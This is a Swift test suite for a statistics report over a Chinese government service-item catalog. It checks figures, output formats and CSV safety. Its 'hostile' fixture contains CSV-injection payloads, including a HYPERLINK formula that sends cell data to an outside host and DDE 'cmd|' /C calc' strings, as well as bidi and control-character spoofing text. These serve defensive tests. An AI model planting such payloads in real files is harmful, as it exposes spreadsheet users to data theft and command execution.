import Catalog
import Reports
import TestSupport
import Testing

/// Figures checked against a catalog of seven items worked out by hand.
@Suite struct CatalogStatsTests {
    /// 内控线 1/2; windows 工程类 gc, 经营类 jy, 综合 zh.
    ///
    /// | item | 类型 | windows | 办件类型 | 法定 → 承诺 | compression | materials (必要 / all / 可共享; B: 条件 and 容缺后补) |
    /// |---|---|---|---|---|---|---|
    /// | A XK-00001 | 行政许可 | jy, zh | 承诺件 | 20个工作日 → 8个工作日 | 12/20 = 0.6 | 2 / 3 / 1 |
    /// | B XK-00002 | 行政许可 | gc | 承诺件 | 20个工作日 → 12个工作日 | 8/20 = 0.4, over 1/2 | 2 / 3 / 1 |
    /// | C GG-00003 | 公共服务 | zh | 即办件 | 10个工作日 → 即办 | 1.0 | 1 / 1 / 1 |
    /// | D QR-00004 | 行政确认 | jy | 承诺件 | 30日 → 15日 | 0.5, exactly 1/2: not over | 4 / 4 / 0 |
    /// | E QR-00005 | 行政确认 | — | 即办件 | 即办 → 即办 | not computable | 0 / 0 / 0 |
    /// | F QT-00006 | 行政备案 | gc, jy, zh | 承诺件 | 20个工作日 → 30日 | mixed units: not computable | 2 / 2 / 0 |
    /// | G XK-00007 | 行政许可 | jy | 承诺件 | 10日 → 6日 | 0.4, over 1/2 | 0 / 1 / 0 |
    static let catalog: Catalog = {
        func materials(_ kinds: [(Necessity, Bool, String?)]) -> [MaterialRequirement] {
            kinds.enumerated().map { i, k in
                MaterialRequirement(name: "材料\(i + 1)", necessity: k.0, condition: k.2, shareable: k.1)
            }
        }
        func item(_ code: String, _ name: String, _ type: String, _ windows: [String], _ caseType: CaseType,
                  _ statutory: TimeLimit, _ promised: TimeLimit, _ m: [(Necessity, Bool, String?)]) -> Item {
            Item(code: "440100-\(code)-001", name: name, type: type, agencyID: "a", windowIDs: windows,
                 caseType: caseType, materials: materials(m),
                 timeLimits: TimeLimits(statutory: statutory, promised: promised))
        }
        let items = [
            item("XK-00001", "甲", "行政许可", ["jy", "zh"], .promised, .workingDays(20), .workingDays(8),
                 [(.required, false, nil), (.required, true, nil), (.optional, false, nil)]),
            item("XK-00002", "乙", "行政许可", ["gc"], .promised, .workingDays(20), .workingDays(12),
                 [(.required, false, nil), (.required, false, "委托他人办理的"), (.deferrable, true, nil)]),
            item("GG-00003", "丙", "公共服务", ["zh"], .immediate, .workingDays(10), .immediate,
                 [(.required, true, nil)]),
            item("QR-00004", "丁", "行政确认", ["jy"], .promised, .calendarDays(30), .calendarDays(15),
                 Array(repeating: (.required, false, nil), count: 4)),
            item("QR-00005", "戊", "行政确认", [], .immediate, .immediate, .immediate, []),
            item("QT-00006", "己", "行政备案", ["gc", "jy", "zh"], .promised, .workingDays(20), .calendarDays(30),
                 [(.required, false, nil), (.required, false, nil)]),
            item("XK-00007", "庚", "行政许可", ["jy"], .promised, .calendarDays(10), .calendarDays(6),
                 [(.optional, false, nil)]),
        ]
        return Catalog(
            name: "测试目录", region: "440100", standards: [], internalControlLine: Ratio(numerator: 1, denominator: 2),
            windows: [
                ServiceWindow(id: "gc", name: "工程窗口", category: "工程类"),
                ServiceWindow(id: "jy", name: "经营窗口", category: "经营类"),
                ServiceWindow(id: "zh", name: "综合窗口", category: "综合"),
            ],
            items: items)
    }()

    let stats = CatalogStats.compute(CatalogStatsTests.catalog)

    @Test func counts() {
        #expect(stats.itemCount == 7)
        // GB/T 39046 order (行政许可, 行政确认, 公共服务), then types it does not list (行政备案).
        #expect(stats.itemsByType == [.init("行政许可", 3), .init("行政确认", 2), .init("公共服务", 1), .init("行政备案", 1)])
        // 工程类: B, F; 经营类: A, D, F, G; 公民类: none; 综合: A, C, F. Sums to 9 > 7 items:
        // A is in 2 categories and F in 3.
        #expect(stats.itemsByWindowCategory == [.init("工程类", 2), .init("经营类", 4), .init("公民类", 0), .init("综合", 3)])
        #expect(stats.itemsInSeveralCategories == 2)
        #expect(stats.itemsWithoutWindow == 1)  // E
    }

    @Test func compression() {
        // Computable for A, B, C, D, G: (0.6 + 0.4 + 1.0 + 0.5 + 0.4) / 5 = 2.9 / 5 = 0.58.
        #expect(stats.compressionItems == 5)
        #expect(abs(stats.meanCompression! - 0.58) < 1e-12)
        // Working days: A, B, C: 法定 20 + 20 + 10 = 50, 承诺 8 + 12 + 0 = 20; (50 − 20) / 50 = 0.6.
        #expect(stats.workingDays == CatalogStats.DayTotals(items: 3, statutory: 50, promised: 20))
        #expect(stats.workingDays.compression == 0.6)
        // Calendar days: D, G: 法定 30 + 10 = 40, 承诺 15 + 6 = 21; 19 / 40 = 0.475. F, with
        // working days against calendar days, is in neither.
        #expect(stats.calendarDays == CatalogStats.DayTotals(items: 2, statutory: 40, promised: 21))
        #expect(stats.calendarDays.compression == 0.475)
    }

    @Test func immediateAndMaterials() {
        // 即办件: C, E; 2 / 7 = 0.2857…
        #expect(stats.immediateItems == 2)
        #expect(abs(stats.immediateShare! - 2.0 / 7) < 1e-12)
        // 必要 (unconditional) per item: 2, 1, 1, 4, 0, 2, 0 = 10; 10 / 7 = 1.43; max 4 (D).
        // B's conditional 必要 material is 条件, its 容缺后补 one 容缺后补.
        #expect(stats.materials(.required) == .init(.required, total: 10, mean: 10.0 / 7, max: 4))
        #expect(stats.materials(.conditional) == .init(.conditional, total: 1, mean: 1.0 / 7, max: 1))
        #expect(stats.materials(.deferrable) == .init(.deferrable, total: 1, mean: 1.0 / 7, max: 1))
        #expect(stats.materials(.optional) == .init(.optional, total: 2, mean: 2.0 / 7, max: 1))
        // All: 3, 3, 1, 4, 0, 2, 1 = 14; 14 / 7 = 2; max 4.
        #expect(stats.allMaterials == .init(nil, total: 14, mean: 2, max: 4))
        // 可共享: A's second, B's third (容缺后补, still counted), C's only: 3 / 14 = 0.214…
        #expect(stats.shareableMaterials == 3)
    }

    /// Conditional (条件), 容缺后补 and 非必要 materials are not 必要: each class has its own
    /// figures. 必要 without 条件: A 2, B 1, C 1, D 4, F 2 = 10; 条件: B's 委托 = 1; 容缺后补:
    /// B's third = 1; 非必要: A's third, G's only = 2; 14 in all.
    @Test func materialsCountedByClass() {
        let text = stats.text()
        #expect(text.contains("  必要材料：平均每个事项 1.4 项，最多 4 项，共 10 项\n"))
        #expect(text.contains("  条件材料（仅在特定情形下需要）：平均每个事项 0.1 项，最多 1 项，共 1 项\n"))
        #expect(text.contains("  容缺后补材料：平均每个事项 0.1 项，最多 1 项，共 1 项\n"))
        #expect(text.contains("  非必要材料：平均每个事项 0.3 项，最多 1 项，共 2 项\n"))
        #expect(text.contains("  全部材料：平均每个事项 2.0 项，最多 4 项，共 14 项\n"))
        #expect(stats.json().contains("\"conditional\": {\n      \"total\": 1,\n      \"mean\": 0.1429,\n      \"max\": 1\n    }"))
        #expect(stats.csv().contains("\r\nmaterials,conditional,total,1\r\n"))
    }

    @Test func internalControlLine() {
        // 1/2 of 法定: B 12 > 10 of 20个工作日 and G 6 > 5 of 10日 are over; D's 15 of 30日 is
        // exactly on the line; F's units differ; C's 即办 is never over.
        #expect(stats.itemsOverInternalControlLine.map(\.code) == ["440100-XK-00002-001", "440100-XK-00007-001"])
        #expect(stats.itemsOverInternalControlLine.map(\.share) == [0.6, 0.6])
        var noLine = CatalogStatsTests.catalog
        noLine.internalControlLine = nil
        #expect(CatalogStats.compute(noLine).itemsOverInternalControlLine.isEmpty)
    }

    @Test func emptyCatalogHasNoRatios() {
        let empty = CatalogStats.compute(Catalog(name: "空目录", region: "440100", standards: []))
        #expect(empty.meanCompression == nil && empty.immediateShare == nil && empty.allMaterials.mean == nil)
        #expect(empty.text().contains("承诺时限较法定时限平均压缩：无可比较的事项"))
        #expect(empty.csv().contains("\r\ncompression,,mean,\r\n"))
        #expect(empty.json().contains("\"mean\": null"))
    }

    // MARK: Formats

    @Test func text() throws {
        try expectGolden(stats.text(), file: golden("stats.txt"))
        try expectGolden(stats.text(language: .en), file: golden("stats.en.txt"))
    }

    @Test func json() throws {
        try expectGolden(stats.json(), file: golden("stats.json"))
    }

    @Test func csv() throws {
        try expectGolden(stats.csv(), file: golden("stats.csv"))
    }

    /// The catalog with one 并联 bundle of two members that take 7 working days one by one.
    static func withBundle(code: String, name: String, promised: Int, materialsBefore: Int, after: Int) -> Catalog {
        var catalog = CatalogStatsTests.catalog
        var bundle = ServiceBundle(code: code, name: name, mode: .parallel,
            stages: [BundleStage(itemCodes: ["a", "b"])], leadAgencyID: "x", windowCategory: "综合",
            promised: .workingDays(promised))
        bundle.figures = BundleFigures(oneByOne: FlowPath(steps: ["a", "b"], workingDays: 7, calendarDays: 0),
                                       materialsBeforeMerge: materialsBefore, materialsAfterMerge: after)
        catalog.bundles = [bundle]
        return catalog
    }

    /// The 一件事 section comes before 跑动与网办, which is numbered after it.
    @Test func bundlesReportWhatTheySave() {
        // Members promising 3 and 4 working days, 5 and 4 materials, 2 of them the same.
        let stats = CatalogStats.compute(Self.withBundle(code: "440100-YJS-001", name: "一件事", promised: 5, materialsBefore: 9, after: 7))
        #expect(stats.bundles.first?.saved == .workingDays(2))
        #expect(stats.text().contains("""

            六、一件事
              一件事：1 个
              440100-YJS-001 一件事（并联，2 个事项）：材料 9 项合并为 7 项，少交 2 项；逐项办理 7个工作日，一件事承诺 5个工作日，节省 2个工作日

            """))
        #expect(stats.text(language: .en).contains("""

            6. Bundles (一件事)
              Bundles: 1
              440100-YJS-001 一件事 (并联, 2 items): materials 9 merged into 7, 2 fewer; one by one 7 working days, promised 5 working days, 2 working days saved

            """))
        #expect(stats.csv().contains("bundles,,materials_saved,2\r\n"))
        #expect(stats.csv().contains("\r\nbundle,440100-YJS-001,days_saved,2\r\n"))
        #expect(stats.text().contains("节省 2个工作日\n\n七、跑动与网办（实施清单要素）\n"))
        #expect(stats.text(language: .en).contains("2 working days saved\n\n7. Visits and online service"))
        #expect(stats.json().contains("\"daysSaved\": 2"))
    }

    @Test func csvQuotesPerRFC4180() {
        var catalog = CatalogStatsTests.catalog
        catalog.name = "目录,含\"逗号\"和引号\n换行"
        #expect(CatalogStats.compute(catalog).csv().contains("\r\ncatalog,,name,\"目录,含\"\"逗号\"\"和引号\n换行\"\r\n"))
    }

    /// A catalog whose text a spreadsheet would run as formulas (OWASP, CSV injection).
    static let hostile: Catalog = {
        var catalog = withBundle(code: "=1+1", name: "一件事,\"引号\"", promised: 9, materialsBefore: 3, after: 3)
        catalog.name = "=HYPERLINK(\"http://example.com/?\"&A1,\"点击\")"
        catalog.items[1].name = "+1+cmd|' /C calc'!A0"     // B, over the line
        catalog.items[6].name = "-2+3"                      // G, over the line
        catalog.items[0].type = "@SUM(1+1)*cmd|' /C calc'!A0"
        catalog.items[3].type = "\t=1+1"
        catalog.items[4].type = "\r=1+1"
        return catalog
    }()

    /// Every cell a spreadsheet would take for a formula starts with `'` inside quotes; numbers
    /// (a negative days saved among them) stay numbers.
    @Test func csvNeutralisesFormulas() throws {
        try expectGolden(CatalogStats.compute(Self.hostile).csv(), file: golden("stats-hostile.csv"))
    }

    /// Python's csv module reads a header and the same number of cells on every row, and gets
    /// back each catalog text with only the `'` in front.
    @Test func csvParsesAsOneTable() throws {
        let file = try makeFolder(.text(["stats.csv": CatalogStats.compute(Self.hostile).csv()])) + "/stats.csv"
        let r = try runPython(["-c", """
            import csv, json, sys
            rows = list(csv.reader(open(sys.argv[1], newline='', encoding='utf-8')))
            show = lambda x: print(json.dumps(x, ensure_ascii=False))
            show(rows[0])
            show(sorted(set(len(r) for r in rows)))
            for r in rows:
                for cell in r:
                    if cell[:1] in ('=', '+', '-', '@', '\\t', '\\r') and not cell.lstrip('-').isdigit():
                        show(['formula', cell])
            show([r[3] for r in rows if r[2] == 'name'])
            show([r[1] for r in rows if r[0] == 'items_by_type'])
            show([r[3] for r in rows if r[2] == 'days_saved'])
            """, file])
        #expect(r.status == 0, "\(r.stderr)")
        #expect(r.stdout == #"""
            ["section", "subject", "measure", "value"]
            [4]
            ["'=HYPERLINK(\"http://example.com/?\"&A1,\"点击\")", "'+1+cmd|' /C calc'!A0", "'-2+3", "一件事,\"引号\""]
            ["行政许可", "公共服务", "'\t=1+1", "'\r=1+1", "'@SUM(1+1)*cmd|' /C calc'!A0", "行政备案"]
            ["-2"]

            """#)
    }

    @Test func controlCharactersAreShownAsEscapes() throws {
        var catalog = Self.hostile
        catalog.name = "测试目录\n\n一、按事项类型\n  行政许可：999 项\u{1B}[2J"
        catalog.items[1].name = "乙\u{202E}txt.exe\u{9B}31m"
        catalog.items[6].name = "庚\u{2029}    440100-XK-99999-001 伪造"
        catalog.bundles[0].name = "一件事\u{2067}\u{0}"
        let stats = CatalogStats.compute(catalog)
        for (text, name) in [(stats.text(), "stats-hostile.txt"), (stats.text(language: .en), "stats-hostile.en.txt")] {
            try expectGolden(text, file: golden(name))
            expectOneLineEach(text)
        }
    }
}
